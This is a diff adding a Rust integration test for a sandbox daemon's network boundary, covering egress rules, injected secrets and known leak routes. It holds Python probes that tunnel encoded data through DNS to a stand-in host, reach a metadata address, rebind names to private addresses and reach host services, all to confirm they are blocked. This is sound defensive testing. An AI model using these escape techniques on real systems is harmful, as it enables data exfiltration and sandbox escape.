@@ -1,0 +1,258 @@
+//! The network boundary of the whole daemon, against an internet of its own: the daemon stands in a network namespace of the
+//! test's, between its sandboxes and servers on 198.51.100.0/24. Each way out that is refused inside is open to the host.
+//!
+//! The rules one by one, and every known leak against the boundary alone, stand in `mote-sandboxd`'s `tests/network`, whose
+//! servers and clients these are.
+
+#[allow(dead_code, missing_docs, unreachable_pub)]
+#[path = "../../../mote-sandboxd/tests/network/internet.rs"]
+mod internet;
+#[allow(dead_code, missing_docs, unreachable_pub)]
+#[path = "../../../mote-sandboxd/tests/network/namespaces.rs"]
+mod namespaces;
+
+use std::future::Future;
+use std::sync::Arc;
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use self::internet::{Internet, METADATA, OTHER, PRIVATE, RESOLVER, SERVER};
+use self::namespaces::Namespace;
+use crate::fixture::Daemon;
+
+/// What stands around the daemon.
+struct World {
+    internet: Internet,
+    host: Namespace,
+    authority: tempfile::NamedTempFile,
+}
+
+/// Runs a test with a daemon whose host is a namespace of its own, with a way to the test's internet.
+fn with_world<F, T>(test: T)
+where
+    F: Future<Output = ()> + Send,
+    T: FnOnce(Arc<World>, Daemon) -> F + Send + 'static,
+{
+    let (outside, host) = (Namespace::new(), Namespace::new());
+    host.ip("link set lo up");
+    host.ip(&format!("link add out0 type veth peer name in0 netns {}", outside.pid()));
+    host.ip("addr add 198.51.100.1/24 dev out0");
+    host.ip("link set out0 up");
+    outside.ip("link set lo up");
+    outside.ip("link set in0 up");
+    for address in [SERVER, OTHER, RESOLVER] {
+        outside.ip(&format!("addr add {address}/24 dev in0"));
+    }
+    // What the host itself can reach, and a sandbox must not.
+    for address in [PRIVATE, METADATA] {
+        outside.ip(&format!("addr add {address}/32 dev in0"));
+        host.ip(&format!("route add {address}/32 dev out0"));
+    }
+    let servers = outside.runtime();
+    let internet = servers.block_on(async { tokio::spawn(Internet::start()).await.unwrap() });
+    let authority = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(authority.path(), &internet.root_pem).unwrap();
+    let world = Arc::new(World { internet, host, authority });
+    // The daemon, and the requests to it, are made by workers that are in the namespace.
+    let clients = world.host.runtime();
+    let running = clients.spawn({
+        let world = Arc::clone(&world);
+        async move {
+            let config = format!("resolver: {RESOLVER}\nauthorities: {}\n", world.authority.path().display());
+            let daemon = Daemon::configured(&config).await;
+            test(world, daemon).await;
+        }
+    });
+    let outcome = clients.block_on(running);
+    drop(servers);
+    if let Err(error) = outcome {
+        std::panic::resume_unwind(error.into_panic());
+    }
+}
+
+impl World {
+    /// What the clients of a script need to know, and the script.
+    fn script(&self, ca: &str, body: &str) -> String {
+        format!(
+            "import socket, ssl, struct, sys, os, time\nSERVER, OTHER, PRIVATE, METADATA = '{SERVER}', '{OTHER}', '{PRIVATE}', '{METADATA}'\n\
+             CA, BOTH = '{ca}', '{ca}'\n{}\n{body}",
+            include_str!("../../../mote-sandboxd/tests/network/clients.py")
+        )
+    }
+
+    /// Runs a script on the host: what it can do there shows what the boundary refuses.
+    async fn on_the_host(self: &Arc<Self>, body: &str) -> String {
+        let (world, script) = (Arc::clone(self), self.script(&self.authority.path().display().to_string(), body));
+        let run = move || world.host.command("python3").args(["-c", &script]).output().unwrap();
+        let output = tokio::task::spawn_blocking(run).await.unwrap();
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        String::from_utf8_lossy(&output.stdout).trim().to_owned()
+    }
+
+    /// Runs a script inside, as root.
+    async fn inside(&self, daemon: &Daemon, id: &str, body: &str) -> String {
+        daemon.put(id, "/opt/authority.pem", self.internet.root_pem.clone()).await;
+        daemon.put(id, "/opt/script.py", self.script("/opt/authority.pem", body)).await;
+        daemon.run(id, "python3 /opt/script.py").await.trim().to_owned()
+    }
+
+    fn asked(&self, part: &str) -> bool {
+        self.internet.asked.lock().unwrap().iter().any(|name| name.contains(part))
+    }
+}
+
+fn rules(names: &[&str]) -> Value {
+    let rules: Vec<Value> = names.iter().map(|name| json!({ "verdict": "allow", "to": name })).collect();
+    json!({ "rules": rules })
+}
+
+async fn curl(daemon: &Daemon, id: &str, arguments: &str) -> String {
+    let line = format!("curl -sS --max-time 20 --noproxy '*' {arguments} 2>&1 || echo failed");
+    daemon.run(id, &line).await
+}
+
+/// The decisions about a sandbox: kind, verdict, reason, name.
+async fn decisions(daemon: &Daemon, id: &str) -> Vec<String> {
+    let told = daemon.done(Method::GET, &format!("/v1/sandboxes/{id}/network/decisions"), Value::Null).await;
+    let word = |decision: &Value, field: &str| decision[field].as_str().unwrap_or("-").trim_end_matches('.').to_owned();
+    let line = |decision: &Value| ["kind", "verdict", "reason", "name"].map(|field| word(decision, field)).join(" ");
+    told["items"].as_array().unwrap().iter().map(line).collect()
+}
+
+#[test]
+fn egress_is_the_policys_alone_and_changes_while_the_sandbox_runs() {
+    with_world(async |world, daemon| {
+        let id = &daemon.create(json!({})).await;
+        daemon.put(id, "/opt/ca.pem", world.internet.root_pem.clone()).await;
+        let good = "--cacert /opt/ca.pem https://good.example/page";
+        let shared = "http://shared.example/page";
+        assert!(world.on_the_host("print(status(http(SERVER, 'good.example')))").await == "200");
+        // Nothing, until a policy says otherwise.
+        assert!(curl(&daemon, id, good).await.contains("failed"));
+        let path = format!("/v1/sandboxes/{id}/network");
+        daemon.done(Method::PUT, &path, rules(&["good.example"])).await;
+        let answer = curl(&daemon, id, good).await;
+        assert!(answer.starts_with("internet server=good.example method=GET uri=/page"), "{answer}");
+        assert!(curl(&daemon, id, shared).await.contains("failed"));
+        // A wildcard, and what was allowed no longer is.
+        world.internet.name("deep.good.example", &[SERVER]);
+        daemon.done(Method::PUT, &path, rules(&["*.good.example", "shared.example"])).await;
+        assert!(curl(&daemon, id, good).await.contains("failed"));
+        assert!(curl(&daemon, id, shared).await.starts_with("internet"));
+        assert!(curl(&daemon, id, "http://deep.good.example/").await.starts_with("internet"));
+        // Every decision is kept, logged and counted.
+        let kept = decisions(&daemon, id).await;
+        for expected in [
+            "dns deny no_rule good.example",
+            "dns allow rule good.example",
+            "tls allow rule good.example",
+            "dns deny no_rule shared.example",
+            "http allow rule shared.example",
+        ] {
+            assert!(kept.iter().any(|decision| decision == expected), "{expected}: {kept:?}");
+        }
+        let log = daemon.log();
+        let logged = log.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
+        let refused = logged.filter(|line| line["sandbox"] == id.as_str() && line["verdict"] == "deny").count();
+        assert!(refused >= 3, "{log}");
+        let metrics = daemon.request(Method::GET, "/metrics").send().await.unwrap().text().await.unwrap();
+        let figure = |name: &str| {
+            let line = metrics.lines().find(|line| line.starts_with(&format!("{name}{{sandbox=\"{id}\"}} ")));
+            line.and_then(|line| line.rsplit(' ').next()?.parse::<u64>().ok()).unwrap_or(0)
+        };
+        assert!(figure("mote_sandbox_network_sent_bytes_total") > 100, "{metrics}");
+        assert!(figure("mote_sandbox_network_received_bytes_total") > 100, "{metrics}");
+        let usage = daemon.done(Method::GET, &format!("/v1/sandboxes/{id}/usage"), Value::Null).await;
+        assert!(usage["received_bytes"].as_u64() > Some(100), "{usage}");
+    });
+}
+
+#[test]
+fn a_secret_is_used_by_a_sandbox_that_never_holds_it() {
+    with_world(async |world, daemon| {
+        let value = "s3cret-of-the-test-1234567";
+        daemon.done(Method::PUT, "/v1/secrets/token", json!({ "value": value })).await;
+        let mut policy = rules(&["secret.example", "good.example"]);
+        policy["secrets"] = json!([{ "secret": "token", "env": "TOKEN", "hosts": ["secret.example"] }]);
+        let id = &daemon.create(json!({ "network": policy })).await;
+        let placeholder = daemon.run(id, "printf %s $TOKEN").await;
+        assert!(!placeholder.is_empty() && placeholder != value);
+        // The image's own programs trust the daemon's authority without being told.
+        let send = "-H \"Authorization: Bearer $TOKEN\" -d \"k=$TOKEN\"";
+        let answer = curl(&daemon, id, &format!("{send} https://secret.example/")).await;
+        let length = |of: &str| format!("content-length: {}", "k=".len() + of.len());
+        assert!(answer.contains(&length(value)), "the server was sent the value: {answer}");
+        assert!(!answer.contains(value), "and what it says back does not bring it inside: {answer}");
+        daemon.put(id, "/opt/ca.pem", world.internet.root_pem.clone()).await;
+        let answer = curl(&daemon, id, &format!("{send} --insecure https://good.example/")).await;
+        assert!(answer.contains(&length(&placeholder)) && !answer.contains(value), "another host is not: {answer}");
+        let everything = format!("{}{:?}", daemon.log(), decisions(&daemon, id).await);
+        assert!(!everything.contains(value));
+    });
+}
+
+#[test]
+fn no_known_way_around_the_boundary_is_open() {
+    with_world(async |world, daemon| {
+        let id = &daemon.create(json!({ "network": rules(&["good.example"]) })).await;
+        let alone = &daemon.create(json!({ "profile": "training", "lease": "10m" })).await;
+        let open = &daemon.create(json!({ "network": rules(&["*", "192.0.2.0/24"]) })).await;
+        let ways = "
+def datagram(port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b'x', (SERVER, port)); return s.recv(10) and 'open'
+def echo():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(3)
+    s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', (SERVER, 0)); return s.recv(100) and 'open'
+def question():
+    return query('dGhlIGtleXM.tunnel.example', 1, '198.51.100.53')
+def way(action):
+    said = str(outcome(action)); return 'open' if said.startswith(('HTTP', 'open', '3/')) else 'shut'
+print(way(lambda: http(SERVER, SERVER)), way(lambda: http(SERVER, 'good.example')), way(lambda: https(SERVER, 'good.example')),
+      way(lambda: http(METADATA, METADATA)), way(lambda: http(PRIVATE, PRIVATE)),
+      way(lambda: datagram(443)), way(lambda: datagram(9999)), way(echo))";
+        assert_eq!(world.on_the_host(ways).await, "open open open open open open open open");
+        let before = *world.internet.datagrams.lock().unwrap();
+        for sandbox in [id, alone] {
+            assert_eq!(world.inside(&daemon, sandbox, ways).await, "shut shut shut shut shut shut shut shut");
+        }
+        assert_eq!(*world.internet.datagrams.lock().unwrap(), before, "a datagram left the host");
+        // Names carry nothing out: not to its own resolver, not to another server, not over TCP.
+        let names = "print(query('dGhl.tunnel.example', 1), query('tunnel.example', 16, '198.51.100.53'), \
+                     query('tunnel.example', 1, '8.8.8.8', tcp=True), query('good.example', 65))";
+        assert_eq!(world.inside(&daemon, id, names).await, "3/0 3/0 3/0 0/0");
+        assert!(!world.asked("tunnel"), "a question left the host");
+        // A name that is allowed does not lead where none may.
+        world.internet.name("rebind.example", &[PRIVATE]);
+        let rebind = "print(resolve('rebind.example'), status(http(PRIVATE, 'rebind.example')), status(http(METADATA, METADATA)))";
+        assert_eq!(world.inside(&daemon, open, rebind).await, "no-name reset reset");
+        // The host's own services, the daemon's API among them, and other sandboxes.
+        let port = daemon.url().rsplit_once(':').unwrap().1;
+        let reach = format!(
+            "def reach(address, port): return outcome(lambda: socket.create_connection((address, port), 5).recv(1) or 'closed')\n\
+             print(reach('127.0.0.1', {port}), reach('198.51.100.1', {port}))"
+        );
+        assert_eq!(world.inside(&daemon, open, &reach).await, "refused reset");
+        let listen = "import signal, socket; s = socket.socket(); s.bind((\"0.0.0.0\", 7000)); s.listen(); \
+                      t = socket.socket(socket.AF_UNIX); t.bind(\"\\0mote-test\"); t.listen(); \
+                      open(\"/tmp/listens\", \"w\"); signal.pause()";
+        let line = format!("python3 -c '{listen}' >/dev/null 2>&1 & until [ -e /tmp/listens ]; do :; done");
+        daemon.run(id, &line).await;
+        let neighbours = "
+def direct(address): return outcome(lambda: socket.create_connection((address, 7000), 5) and 'open')
+def abstract():
+    s = socket.socket(socket.AF_UNIX); s.connect('\\0mote-test'); return 'open'
+own = [line.split()[3] for line in os.popen('ip -4 -o addr show') if ' lo ' not in line]
+print(direct('192.0.2.2'), outcome(abstract))";
+        let (mine, other) =
+            (world.inside(&daemon, id, neighbours).await, world.inside(&daemon, open, neighbours).await);
+        assert_eq!((mine.as_str(), other.as_str()), ("open open", "refused refused"));
+        let refused = decisions(&daemon, open).await;
+        for reason in ["special_range", "own_address"] {
+            assert!(
+                refused.iter().any(|decision| decision.contains(&format!("deny {reason}"))),
+                "{reason}: {refused:?}"
+            );
+        }
+    });
+}
